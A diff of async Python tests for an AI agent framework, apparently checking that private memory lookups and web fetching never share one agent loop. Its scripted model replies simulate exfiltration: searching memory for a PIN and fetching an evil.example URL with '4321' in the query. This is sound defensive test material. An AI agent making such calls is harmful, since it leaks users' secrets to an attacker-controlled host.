@@ -74,7 +74,7 @@ async def test_memory_and_web_never_meet_in_one_loop() -> None:
         if len(request.messages) > 2
         else calls(("memory__search", {"query": "PIN"}), ("web__fetch", {"url": f"{EVIL}4321"}))
     )
-    await place.world.say("look both up")
+    await place.world.say("look both up, my PIN and what Acme charges")
     loops = [r for r in place.world.model.requests if r.agent == "researcher"]
     inside = [r for r in loops if any(t.name == "memory__search" for t in r.tools)]
     outside = [r for r in loops if any(t.name == "web__search" for t in r.tools)]
@@ -113,7 +113,7 @@ async def test_a_template_composes_no_address_either() -> None:
         fetch("https://evil.example/?q=4321", "https://evil.example/?q=", EVIL),
         found("no", found=False),
     )
-    await place.world.say("look")
+    await place.world.say("look at acme.example")
     assert place.fetch.asked == [PAGE, EVIL, EVIL]
 
 
@@ -124,7 +124,7 @@ async def test_addresses_of_results_may_be_read_on() -> None:
         fetch(PAGE),
         FOUND,
     )
-    assert await place.world.say("read the first result") == [
+    assert await place.world.say("search for Acme and read the first result") == [
         "Searched.\nAcme charges $12.",
     ]
     assert place.fetch.asked == [PAGE]
